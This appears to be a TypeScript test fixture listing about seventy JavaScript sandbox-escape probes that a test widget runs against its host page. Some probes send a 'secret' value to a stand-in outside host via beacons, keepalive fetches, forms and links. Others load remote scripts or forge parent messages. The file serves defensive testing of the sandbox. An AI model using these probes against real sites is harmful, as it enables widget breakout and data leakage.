import { DOCUMENT_ATTACKS } from "./document_attacks.ts";
import { NONCE_ATTACKS } from "./nonce_attacks.ts";
import { PORT_ATTACKS } from "./port_attacks.ts";

/** What a widget tries that the rules forbid. Each is the body of an async function; it returns whether it succeeded. */
export const ATTACKS: { readonly [name: string]: string } = {
  "local storage by a destructured window": `
    const [w] = [window];
    w.localStorage.setItem("secret", "1");
    return w.localStorage.getItem("secret") === "1";`,
  "session storage by the document's view": `
    element.ownerDocument.defaultView.sessionStorage.setItem("secret", "1");
    return true;`,
  "local storage by the view of an event": `
    const { view } = await new Promise((resolve) => {
      element.addEventListener("click", resolve, { once: true });
      element.dispatchEvent(new MouseEvent("click", { view: window }));
    });
    view.localStorage.setItem("secret", "1");
    return true;`,
  "local storage by a timer's this": `
    return await new Promise((resolve) => setTimeout(function () {
      try { this.localStorage.setItem("secret", "1"); resolve(true); } catch { resolve(false); }
    }));`,
  "local storage of a frame within": `
    const frame = document.createElement("iframe");
    element.append(frame);
    try {
      frame.contentWindow.localStorage.setItem("secret", "1");
      return true;
    } finally { frame.remove(); }`,
  "WebRTC of a frame within": `
    const frame = document.createElement("iframe");
    element.append(frame);
    try { return frame.contentWindow.RTCPeerConnection !== undefined; } finally { frame.remove(); }`,
  "a cookie": `document.cookie = "secret=1; path=/"; return document.cookie.includes("secret");`,
  "a cookie by the setter of the prototype": `
    const { set } = Object.getOwnPropertyDescriptor(Document.prototype, "cookie");
    set.call(document, "secret=1; path=/");
    return true;`,
  "IndexedDB": `
    return await new Promise((resolve, reject) => {
      const request = indexedDB.open("secret");
      request.onsuccess = () => resolve(true);
      request.onerror = () => resolve(false);
    });`,
  "the cache": `await (await caches.open("secret")).put("/secret", new Response("1")); return true;`,
  "the private file system":
    `await (await navigator.storage.getDirectory()).getFileHandle("secret", { create: true });
    return true;`,
  "a worker": `
    const worker = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"], { type: "text/javascript" })));
    return await new Promise((resolve) => {
      worker.onmessage = () => resolve(true);
      worker.onerror = () => resolve(false);
      setTimeout(() => resolve(false), 1000);
    });`,
  "a shared worker": `
    const worker = new SharedWorker(URL.createObjectURL(new Blob(["onconnect = ({ ports: [p] }) => p.postMessage(1)"])));
    return await new Promise((resolve) => {
      worker.port.onmessage = () => resolve(true);
      worker.onerror = () => resolve(false);
      setTimeout(() => resolve(false), 1000);
    });`,
  "a service worker":
    `await navigator.serviceWorker.register("/__tck/v1/boot-frame.mjs", { type: "module" }); return true;`,
  "WebRTC": `new RTCPeerConnection({ iceServers: [{ urls: "stun:" + elsewhere.slice(7) }] }); return true;`,
  "a nonce": `return document.querySelector("[nonce]")?.nonce !== undefined;`,
  "an inline script": `
    const script = document.createElement("script");
    script.textContent = "globalThis.ranInline = true";
    document.head.append(script);
    return globalThis.ranInline === true;`,
  "a script from elsewhere": `
    const script = document.createElement("script");
    script.src = elsewhere + "/script.js";
    return await new Promise((resolve) => {
      script.onload = () => resolve(true);
      script.onerror = () => resolve(false);
      document.head.append(script);
    });`,
  "eval": `return (0, eval)("1") === 1;`,
  "the API with the session": `
    return (await fetch(origin + "/api/daily-pages/v2/batches", { credentials: "include" })).ok;`,
  "the API without reading the answer": `
    await fetch(origin + "/api/daily-pages/v2/batches?secret=1", { mode: "no-cors", credentials: "include" });
    return true;`,
  "XMLHttpRequest": `
    return await new Promise((resolve) => {
      const request = new XMLHttpRequest();
      request.open("GET", elsewhere + "/xhr");
      request.onload = () => resolve(true);
      request.onerror = () => resolve(false);
      request.send();
    });`,
  "a window of a video": `return "requestPictureInPicture" in HTMLVideoElement.prototype &&
    HTMLVideoElement.prototype.requestPictureInPicture !== undefined;`,
  "a beacon": `navigator.sendBeacon(elsewhere + "/beacon", "secret"); return false;`,
  "a web socket": `
    const socket = new WebSocket(elsewhere.replace("http", "ws") + "/socket");
    return await new Promise((resolve) => {
      socket.onopen = () => resolve(true);
      socket.onerror = () => resolve(false);
    });`,
  "server-sent events": `
    const events = new EventSource(elsewhere + "/events");
    return await new Promise((resolve) => {
      events.onopen = () => resolve(true);
      events.onerror = () => { events.close(); resolve(false); };
    });`,
  "an image": `
    const image = new Image();
    return await new Promise((resolve) => {
      image.onload = () => resolve(true);
      image.onerror = () => resolve(false);
      image.src = elsewhere + "/image.png";
    });`,
  "a background image":
    `element.style.backgroundImage = "url(" + elsewhere + "/background.png)"; return false;`,
  "a font": `
    await new FontFace("secret", "url(" + elsewhere + "/font.woff2)").load();
    return true;`,
  "a stylesheet": `
    const link = document.createElement("link");
    link.rel = "stylesheet";
    link.href = elsewhere + "/style.css";
    return await new Promise((resolve) => {
      link.onload = () => resolve(true);
      link.onerror = () => resolve(false);
      document.head.append(link);
    });`,
  "a prefetch": `
    const link = document.createElement("link");
    link.rel = "prefetch";
    link.href = elsewhere + "/prefetch";
    document.head.append(link);
    return false;`,
  "a video": `
    const video = document.createElement("video");
    video.src = elsewhere + "/video.mp4";
    element.append(video);
    return false;`,
  "a frame of elsewhere": `
    const frame = document.createElement("iframe");
    frame.src = elsewhere + "/frame";
    element.append(frame);
    return false;`,
  "an object of elsewhere": `
    const object = document.createElement("object");
    object.data = elsewhere + "/object";
    element.append(object);
    return false;`,
  "a form with its data in the address": `
    const form = document.createElement("form");
    Object.assign(form, { action: elsewhere + "/get", method: "get", target: "_blank" });
    form.innerHTML = "<input name=secret value=1>";
    element.append(form);
    form.requestSubmit();
    return false;`,
  "a new window": `return window.open(elsewhere + "/window") !== null;`,
  "the parent's document": `return parent.document.title !== undefined;`,
  "the parent's session by a message": `
    parent.postMessage({ type: "tck:theme", theme: "dark" }, "*");
    parent.postMessage({ type: "open", href: elsewhere + "/message", inNewTab: true }, "*");
    return false;`,
  "the top page's address": `top.location = elsewhere + "/top"; return false;`,
  "a channel to the page": `
    const channel = new BroadcastChannel("secret");
    return await new Promise((resolve) => {
      channel.onmessage = () => resolve(true);
      channel.postMessage("ping");
      setTimeout(() => resolve(false), 500);
    });`,
  "a link that clicks itself": `
    const link = document.createElement("a");
    link.href = elsewhere + "/link";
    element.append(link);
    link.click();
    return false;`,
  "a download": `
    const link = document.createElement("a");
    link.href = elsewhere + "/download";
    link.download = "secret";
    element.append(link);
    link.click();
    return false;`,
  "a module of elsewhere by import()": `await import(elsewhere + "/module.mjs?secret"); return true;`,
  "a module of a blob by import()": `
    const blob = new Blob(["export default 1"], { type: "text/javascript" });
    return (await import(URL.createObjectURL(blob))).default === 1;`,
  "a module of the page by import()":
    `return (await import(origin + "/__tck/v1/tck-host.mjs")) !== undefined;`,
  "a script from elsewhere with an integrity value": `
    const text = document.querySelector("script[type=importmap]")?.textContent ?? "";
    const bytes = await new Response(text).arrayBuffer();
    const digest = crypto.subtle === undefined ? [] : new Uint8Array(await crypto.subtle.digest("SHA-384", bytes));
    const script = document.createElement("script");
    script.crossOrigin = "anonymous";
    script.integrity = "sha384-" + btoa(String.fromCharCode(...digest));
    script.src = elsewhere + "/integrity.js?secret";
    return await new Promise((resolve) => {
      script.onload = () => resolve(true);
      script.onerror = () => resolve(false);
      document.head.append(script);
    });`,
  ...NONCE_ATTACKS,
  ...DOCUMENT_ATTACKS,
  "frames that run addresses of code": `
    const code = "<script>parent.postMessage('address', '*')</" + "script>";
    const addresses = ["javascript:parent.postMessage('address', '*')", "data:text/html," + encodeURIComponent(code),
      URL.createObjectURL(new Blob([code], { type: "text/html" })), "about:srcdoc", "/__tck/v1/canvas.html"];
    return await new Promise((resolve) => {
      addEventListener("message", ({ data }) => (data === "address" || data?.type === "tck:canvas-frame") && resolve(true));
      for (const src of addresses) element.append(Object.assign(document.createElement("iframe"), { src }));
      setTimeout(() => resolve(false), 500);
    });`,
  "a stylesheet with the hash of the allowed style": `
    const bytes = new Uint8Array(await crypto.subtle.digest("SHA-384", new ArrayBuffer(0)));
    const integrity = "sha384-" + btoa(String.fromCharCode(...bytes));
    for (const rel of ["stylesheet", "preload"]) {
      const link = document.createElement("link");
      Object.assign(link, { rel, as: "style", integrity, crossOrigin: "anonymous", href: elsewhere + "/hash-" + rel });
      document.head.append(link);
    }
    return false;`,
  "pictures of the media that are playing": `
    const context = new AudioContext();
    const audio = new Audio();
    const destination = context.createMediaStreamDestination();
    const tone = context.createOscillator();
    tone.connect(destination);
    tone.start();
    audio.srcObject = destination.stream;
    audio.play().catch(() => {});
    navigator.mediaSession.playbackState = "playing";
    navigator.mediaSession.metadata = new MediaMetadata({
      title: "secret", artwork: [{ src: elsewhere + "/artwork.png?secret", sizes: "512x512", type: "image/png" }],
    });
    return true;`,
  "an address to download in what is dragged": `
    let calls = 0;
    const format = { toString: () => ["text/plain", "DownloadURL"][calls++] ?? "DownloadURL" };
    const { exec } = RegExp.prototype;
    const transfer = new DataTransfer();
    RegExp.prototype.exec = () => null;
    try {
      transfer.setData("DownloadURL", "text/plain:secret:" + elsewhere + "/dragged?secret");
      transfer.setData(" downloadurl", "text/plain:secret:" + elsewhere + "/dragged?secret");
      transfer.items.add("text/plain:secret:" + elsewhere + "/dragged?secret", "downloadURL");
      transfer.setData(format, "text/plain:secret:" + elsewhere + "/dragged?secret");
    } finally {
      RegExp.prototype.exec = exec;
    }
    return [...transfer.types].some((type) => type.toLowerCase().includes("downloadurl"));`,
  ...PORT_ATTACKS,
  "addresses in an adopted stylesheet": `
    const sheet = new CSSStyleSheet();
    const url = (name) => "url(" + elsewhere + "/" + name + ")";
    sheet.replaceSync("@font-face { font-family: secret; src: " + url("adopted.woff2") + " } * { font-family: secret; " +
      "background: " + url("adopted.png") + "; mask-image: " + url("mask.svg#a") + "; filter: " + url("filter.svg#a") +
      "; cursor: " + url("cursor.png") + ", auto; list-style-image: image-set('" + elsewhere + "/set.png' 1x); " +
      "border-image-source: " + url("border.png") + " }");
    await sheet.replace(sheet.cssRules.length + "{} @import " + url("import.css")).catch(() => {});
    const other = new CSSStyleSheet();
    other.replaceSync("* { background: " + url("other.png") + " !important }");
    element.getRootNode().adoptedStyleSheets.push(sheet, other);
    element.textContent = "text";
    await new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve)));
    element.getRootNode().adoptedStyleSheets = element.getRootNode().adoptedStyleSheets.slice(0, -2);
    return false;`,
  "a link element of every kind": `
    const kinds = ["preload", "modulepreload", "prerender", "icon", "manifest", "alternate stylesheet", "next"];
    for (const rel of kinds) {
      const link = document.createElement("link");
      Object.assign(link, { rel, as: rel === "preload" ? "image" : "", href: elsewhere + "/link?" + rel });
      document.head.append(link);
    }
    return false;`,
  "speculation rules": `
    const text = JSON.stringify({ prefetch: [{ source: "list", urls: [elsewhere + "/speculation"] }] });
    for (const src of [null, URL.createObjectURL(new Blob([text], { type: "application/speculationrules+json" }))]) {
      const script = document.createElement("script");
      script.type = "speculationrules";
      if (src === null) script.textContent = text;
      else script.src = src;
      document.head.append(script);
    }
    return false;`,
  "addresses in markup": `
    const markup = document.createElement("div");
    const at = (name) => '"' + elsewhere + "/markup-" + name + '"';
    markup.innerHTML = "<svg><image href=" + at("image") + "/><use href=" + at("use.svg#a") + "/><script href=" + at("js") +
      "></" + "script></svg><audio src=" + at("audio") + "></audio><video poster=" + at("poster") + "></video><embed src=" +
      at("embed") + "><input type=image src=" + at("input") + "><img srcset=" + at("set") + "><table background=" +
      at("table") + "></table><style>@import " + at("style") + "</style><p style='background:url(" + elsewhere + "/p)'>";
    element.append(markup);
    return false;`,
  "a frame with markup of its own": `
    const frame = document.createElement("iframe");
    const address = URL.createObjectURL(new Blob(["parent.postMessage('secret', '*')"], { type: "text/javascript" }));
    const data = "data:text/javascript,parent.postMessage(%22secret%22,%22*%22)";
    frame.srcdoc = "<script src='" + address + "'></" + "script><script type=module src='" + address + "'></" + "script>" +
      "<script src='" + data + "'></" + "script><script type=module src='" + data + "'></" + "script>" +
      "<meta http-equiv=refresh content='1;url=" + elsewhere + "/srcdoc'><img src='" + elsewhere + "/srcdoc-image'>" +
      "<link rel=prefetch href='" + elsewhere + "/srcdoc-prefetch'><iframe src='" + elsewhere + "/srcdoc-frame'></iframe>";
    const hasRun = await new Promise((resolve) => {
      addEventListener("message", ({ data }) => data === "secret" && resolve(true));
      frame.onload = () => setTimeout(() => resolve(false), 300);
      setTimeout(() => resolve(false), 3000);
      element.append(frame);
    });
    return hasRun;`,
  "a worklet from elsewhere": `
    await (CSS.paintWorklet ?? new OfflineAudioContext(1, 1, 8000).audioWorklet).addModule(elsewhere + "/worklet.js");
    return true;`,
  "requests that outlive the page": `
    globalThis.fetchLater?.(elsewhere + "/later", { activateAfter: 0 });
    await fetch(elsewhere + "/keepalive", { keepalive: true, mode: "no-cors", method: "POST", body: "secret" });
    return true;`,
  "WebTransport": `await new WebTransport(elsewhere.replace("http", "https")).ready; return true;`,
  "a base address": `
    const base = document.createElement("base");
    base.href = elsewhere + "/base/";
    document.head.append(base);
    return document.baseURI.startsWith(elsewhere);`,
  "a dialog of the browser": `return confirm("secret") || prompt("secret") !== null;`,
  "the whole screen": `await element.requestFullscreen(); return document.fullscreenElement !== null;`,
  "the pointer": `await element.requestPointerLock(); return document.pointerLockElement !== null;`,
  "a notification": `return await Notification.requestPermission() === "granted";`,
  "features of the browser that nobody needs": `
    const harmless = /^(ch-|gamepad$|aria-notify$|unload$|sync-xhr$|media-playback-while-not-visible$)/;
    // Chromium has had these until 2026. They do nothing without requests.
    const advertising = /^(attribution-reporting|join-ad-interest-group|private-aggregation|run-ad-auction|shared-storage)/;
    return document.featurePolicy.allowedFeatures().some((name) => !harmless.test(name) && !advertising.test(name));`,
  "the browser's handler of a scheme": `
    navigator.registerProtocolHandler("web+secret", location.href + "?%s");
    return true;`,
  "a link that asks another server": `
    const link = document.createElement("a");
    Object.assign(link, { href: elsewhere + "/follow", ping: elsewhere + "/ping", target: "_blank" });
    link.addEventListener("click", (event) => event.stopImmediatePropagation());
    element.append(link);
    link.click();
    return false;`,
  "a link that runs code": `
    const link = document.createElement("a");
    link.href = "javascript:globalThis.ranAddress = true";
    link.addEventListener("click", (event) => event.stopImmediatePropagation());
    element.append(link);
    link.click();
    await new Promise((resolve) => setTimeout(resolve, 100)); // timer: in the widget: the address may not run meanwhile
    return globalThis.ranAddress === true;`,
  "a button that sends a form to the top page": `
    const form = document.createElement("form");
    Object.assign(form, { method: "post", target: "_top" });
    form.innerHTML = "<button name=secret formaction='" + elsewhere + "/formaction'></button>";
    element.append(form);
    form.firstChild.click();
    return false;`,
  "the page's history": `
    const length = history.length;
    for (const move of ["back", "forward"]) {
      try { history[move](); } catch {}
      try { navigation[move](); } catch {}
    }
    try { history.go(-1); } catch {}
    try { history.pushState(null, "", ""); } catch {}
    return history.length > length;`,
  "another address of the document": `
    const before = document.URL;
    for (const method of ["pushState", "replaceState"]) {
      try { history[method](null, "", "/login?secret"); } catch {}
      try { Object.getPrototypeOf(history)[method].call(history, null, "", "/login?secret"); } catch {}
    }
    const after = document.URL;
    try { history.replaceState(null, "", before); } catch {}
    return after !== before;`,
  "forged messages to the page": `
    const nested = JSON.parse('{"a":'.repeat(1000) + "1" + "}".repeat(1000));
    const forged = [null, 7, "text", [], nested, new Map(), { type: "__proto__" }, { type: {} }, { type: "pong" },
      { type: "open", href: elsewhere + "/forged", inNewTab: true, isChosen: true }, { type: "tck:canvas-frame", version: "3" },
      { type: "card", widgetId: "other", state: "failed", failure: "render" }, new ArrayBuffer(10_000_000)];
    for (const message of forged) for (const target of [parent, top]) target.postMessage(message, "*");
    return false;`,
};

/** The attacks that make an open page leave. */
export const LEAVING = [
  "a document of its own by a document that is opened again",
  "the top page's address",
  "a form with its data in the address",
  "a link that clicks itself",
  "a download",
  "a new window",
  "a link that asks another server",
  "a button that sends a form to the top page",
  "the page's history",
];

/**
 * A widget that runs the attacks after it is mounted, and shows as JSON which succeeded.
 *
 * @param without the names of attacks that are left out
 * @param list the attacks
 */
export function attackingWidget(
  origin: string,
  elsewhere: string,
  without: readonly string[] = [],
  list: { readonly [name: string]: string } = ATTACKS,
): string {
  const attacks = Object.entries(list).filter(([name]) => !without.includes(name)).map(([name, body]) =>
    `${JSON.stringify(name)}: async (element, origin, elsewhere) => {${body}}`
  );
  return `
    import { createElement, useEffect, useRef, useState } from "react";
    const attacks = {${attacks.join(",\n")}};
    // What an earlier document has left.
    globalThis.foundAtStart ??= [window.name, history.state];
    export default function Attack() {
      const element = useRef(null);
      const [results, setResults] = useState(null);
      useEffect(() => {
        (async () => {
          const succeeded = [];
          for (const [name, attack] of Object.entries(attacks)) {
            const result = await attack(element.current, ${JSON.stringify(origin)}, ${
    JSON.stringify(elsewhere)
  })
              .catch(() => false);
            if (result === true) succeeded.push(name);
          }
          window.name = "secret";
          try { history.replaceState({ secret: 1 }, ""); } catch {}
          setResults(succeeded);
        })();
      }, []);
      return createElement("div", null,
        createElement("div", { ref: element }),
        results === null ? null : createElement("pre", { "data-results": "" }, JSON.stringify(results)));
    }`;
}
